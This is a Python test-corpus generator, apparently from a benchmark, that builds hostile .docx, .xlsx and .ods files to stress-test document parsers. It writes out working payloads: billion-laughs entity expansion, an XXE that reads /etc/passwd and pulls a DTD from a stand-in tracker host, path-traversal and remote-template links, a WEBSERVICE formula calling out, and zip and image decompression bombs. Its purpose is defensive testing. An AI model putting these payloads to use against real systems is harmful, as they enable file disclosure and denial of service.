"""Word files and workbooks that are made to harm."""

# A file a line: these are tables of what is made, and are read as such.
# fmt: off

from __future__ import annotations

import io
import zipfile

import docx
import openpyxl

from benchmarks.hostile_files import Maker
from benchmarks.hostile_files.seeds import WORDS, open_document, packed, picture

LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha ha ha ha ">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(12))
    + ']>'
)
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "http://tracker.example/a.dtd">%y;]>'
WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'


def word(body: str, head: str = '<?xml version="1.0"?>', more: dict[str, bytes] | None = None, links: str = "") -> bytes:
    """A Word file of this body."""
    relations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    parts = {
        "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="{relations}/officeDocument" Target="word/document.xml"/></Relationships>'.encode(),
        "word/document.xml": f"{head}<w:document {WORD}><w:body>{body}</w:body></w:document>".encode("utf-8", "surrogatepass"),
        "word/_rels/document.xml.rels": f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{links}</Relationships>'.encode(),
    }
    return packed(parts | (more or {}))


def said(text: str = WORDS) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def hostile_offices() -> Maker:
    """Every one."""
    yield from _words()
    yield from _sheets()


def _words() -> Maker:
    yield "word laughs.docx", word(said("&m;"), LAUGHS)
    yield "word outside.docx", word(said("&x;"), OUTSIDE)
    yield "word utf7.docx", word(said(), '<?xml version="1.0" encoding="utf-7"?>')
    yield "word deep.docx", word("<w:sdt><w:sdtContent>" * 20_000 + said())
    yield "word deep sound.docx", word("<w:sdt><w:sdtContent>" * 900 + said() + "</w:sdtContent></w:sdt>" * 900)
    yield "word runs deep.docx", word("<w:p>" + "<w:ins><w:hyperlink>" * 100 + "<w:r><w:t>at the bottom</w:t></w:r>" + "</w:hyperlink></w:ins>" * 100 + "</w:p>")
    tables = said()
    for _ in range(60):
        tables = f"<w:tbl><w:tr><w:tc>{tables}<w:p/></w:tc></w:tr></w:tbl>"
    yield "word tables 60 deep.docx", word(tables)
    yield "word 5000 paragraphs.docx", word(said("A line.") * 5000)
    yield "word one paragraph.docx", word(said("word " * 300_000))
    yield "word no space.docx", word(said("w" * 300_000))
    yield "word table wide.docx", word("<w:tbl><w:tr>" + f"<w:tc>{said('c')}</w:tc>" * 1000 + "</w:tr></w:tbl>")
    yield "word table long.docx", word("<w:tbl>" + f"<w:tr><w:tc>{said('4 May 2023')}</w:tc><w:tc>{said('A call')}</w:tc></w:tr>" * 1500 + "</w:tbl>")
    yield "word spans.docx", word(f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="99999999"/><w:vMerge/></w:tcPr>{said()}</w:tc></w:tr><w:tr><w:tc><w:tcPr><w:gridSpan w:val="-3"/><w:vMerge w:val="x"/></w:tcPr>{said()}</w:tc></w:tr></w:tbl>')
    yield "word numbers.docx", word(f'<w:p><w:pPr><w:numPr><w:ilvl w:val="99999999999"/><w:numId w:val="-7"/></w:numPr><w:ind w:left="1e99"/></w:pPr></w:p>{said()}')
    yield "word styles loop.docx", word(
        f'<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr><w:r><w:t>{WORDS}</w:t></w:r></w:p>',
        more={"word/styles.xml": f'<w:styles {WORD}><w:style w:styleId="A"><w:basedOn w:val="B"/></w:style><w:style w:styleId="B"><w:basedOn w:val="A"/></w:style></w:styles>'.encode()},
        links='<Relationship Id="s" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/>',
    )
    outside = "".join(
        f'<Relationship Id="p{n}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="{target}" TargetMode="{mode}"/>'
        for n, (target, mode) in enumerate((("http://tracker.example/a.png", "External"), ("file:///etc/passwd", "External"), ("../../../../etc/passwd", "Internal"), ("media/none.png", "Internal"), ("media/bomb.png", "Internal")))
    )
    shown = "".join(f'<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:embed="p{n}" r:link="p{n}"/></w:drawing></w:r></w:p>' for n in range(6))
    bomb = io.BytesIO()
    picture("1", (16_000, 15_000)).save(bomb, "PNG")
    yield "word pictures.docx", word(shown + said(), more={"word/media/bomb.png": bomb.getvalue()}, links=outside + '<Relationship Id="t" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://tracker.example/t.dotm" TargetMode="External"/>')
    loop = "".join(f'<Relationship Id="{kind}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="document.xml"/>' for kind in ("header", "footer", "footnotes", "comments", "endnotes"))
    yield "word parts are itself.docx", word(said() + '<w:sectPr><w:headerReference r:id="header"/><w:footerReference r:id="footer"/></w:sectPr>', links=loop)
    yield "word text box in itself.docx", word("<w:p><w:r><w:txbxContent>" * 300 + "<w:t>in</w:t>" + "</w:txbxContent></w:r></w:p>" * 300)
    yield "word fields.docx", word("<w:p>" + '<w:r><w:fldChar w:fldCharType="begin"/></w:r>' * 5000 + f"<w:r><w:t>{WORDS}</w:t></w:r></w:p>")
    yield "word marks.docx", word(said("&#x202e;&#xFFFD;\u2066\U0010ffff a\u0301" * 500))
    yield "word bad xml.docx", word(said() + "<w:p><w:r><w:t>cut & off <")
    yield "word nothing.docx", word("")
    yield "word no document.docx", packed({"[Content_Types].xml": b"<Types/>", "word/document.xml": b""})
    yield "word part bomb.docx", word(said(), more={"word/media/x.xml": b"\0" * 700_000_000})
    made = docx.Document()
    for _ in range(40):
        made.add_paragraph(WORDS, style="List Bullet")
    out = io.BytesIO()
    made.save(out)
    yield "word bullets.docx", out.getvalue()


SHEET = '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{rows}</sheetData>{more}</worksheet>'


def _book() -> dict[str, bytes]:
    book = openpyxl.Workbook()
    book.active.append(["Date", "What"])
    out = io.BytesIO()
    book.save(out)
    with zipfile.ZipFile(out) as package:
        return {one.filename: package.read(one) for one in package.infolist()}


def sheet(rows: str, more: str = "", head: str = "", **parts: bytes) -> bytes:
    """A workbook whose sheet has these rows."""
    made = _book() | {"xl/worksheets/sheet1.xml": (head + SHEET.format(rows=rows, more=more).removeprefix('<?xml version="1.0"?>' if head else "")).encode()}
    return packed(made | {f"xl/{name}.xml": data for name, data in parts.items()})


def _sheets() -> Maker:
    cell = '<row r="{0}"><c r="A{0}" t="inlineStr"><is><t>4 May 2023</t></is></c><c r="B{0}"><v>{0}</v></c></row>'
    yield "sheet million rows.xlsx", sheet("".join(cell.format(n) for n in range(1, 1_000_001)))
    yield "sheet 5000 rows.xlsx", sheet("".join(cell.format(n) for n in range(1, 5001)))
    yield "sheet two corners.xlsx", sheet('<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>')
    yield "sheet beyond.xlsx", sheet('<row r="99999999999"><c r="ZZZZZZZ99999999999"><v>1</v></c></row><row r="-1"><c r="A0"><v>1</v></c><c r="???"><v>x</v></c></row>')
    yield "sheet wide.xlsx", sheet('<row r="1">' + "<c><v>1</v></c>" * 16_384 + "</row>")
    yield "sheet laughs.xlsx", sheet('<row r="1"><c r="A1" t="inlineStr"><is><t>&m;</t></is></c></row>', head=LAUGHS)
    yield "sheet outside.xlsx", sheet('<row r="1"><c r="A1" t="inlineStr"><is><t>&x;</t></is></c></row>', head=OUTSIDE)
    yield "sheet formulas.xlsx", sheet('<row r="1"><c r="A1"><f>WEBSERVICE("http://tracker.example/")</f><v>1</v></c><c r="B1"><f>B1</f></c><c r="C1" t="e"><v>#REF!</v></c></row>')
    yield "sheet numbers.xlsx", sheet("<row r='1'>" + "".join(f"<c t='{kind}' s='{style}'><v>{value}</v></c>" for kind in ("n", "d", "b", "s", "e", "str", "zz") for style in (0, 99999, -1) for value in ("1e308", "-1e308", "nan", "inf", "", "x", "2958466", "-5", "99999999999999999999")) + "</row>")
    yield "sheet shared strings.xlsx", sheet('<row r="1"><c r="A1" t="s"><v>4294967295</v></c><c r="B1" t="s"><v>-1</v></c></row>', sharedStrings=b"<sst xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main' count='4294967295'><si><t>a</t></si></sst>")
    yield "sheet merged.xlsx", sheet('<row r="1"><c r="A1"><v>1</v></c></row>', '<mergeCells count="3"><mergeCell ref="A1:XFD1048576"/><mergeCell ref="B2:A1"/><mergeCell ref="nonsense"/></mergeCells>')
    yield "sheet long cell.xlsx", sheet('<row r="1"><c r="A1" t="inlineStr"><is><t>' + "word " * 200_000 + "</t></is></c></row>")
    yield "sheet cell no space.xlsx", sheet('<row r="1"><c r="A1" t="inlineStr"><is><t>' + "w" * 300_000 + "</t></is></c></row>")
    many = openpyxl.Workbook()
    for number in range(200):
        many.create_sheet(f"S{number}").append([f"Sheet {number}", WORDS[:40]])
    out = io.BytesIO()
    many.save(out)
    yield "sheet two hundred.xlsx", out.getvalue()
    head = "<?xml version='1.0'?><office:document-content xmlns:office='urn:oasis:names:tc:opendocument:xmlns:office:1.0' xmlns:table='urn:oasis:names:tc:opendocument:xmlns:table:1.0' xmlns:text='urn:oasis:names:tc:opendocument:xmlns:text:1.0'><office:body><office:spreadsheet><table:table table:name='a'>"
    tail = "</table:table></office:spreadsheet></office:body></office:document-content>"
    for name, rows in {
        "repeated": "<table:table-row table:number-rows-repeated='1048576'><table:table-cell table:number-columns-repeated='16384' office:value-type='string'><text:p>x</text:p></table:table-cell></table:table-row>",
        "repeated far": "<table:table-row table:number-rows-repeated='99999999999'><table:table-cell table:number-columns-repeated='-1'><text:p>x</text:p></table:table-cell></table:table-row>",
        "values": "<table:table-row>" + "".join(f"<table:table-cell office:value-type='{kind}' office:value='{value}' office:date-value='{value}'/>" for kind in ("float", "date", "time", "boolean", "zz") for value in ("nan", "1e999", "", "99999-99-99")) + "</table:table-row>",
    }.items():
        yield f"open sheet {name}.ods", open_document("spreadsheet", head + rows + tail)
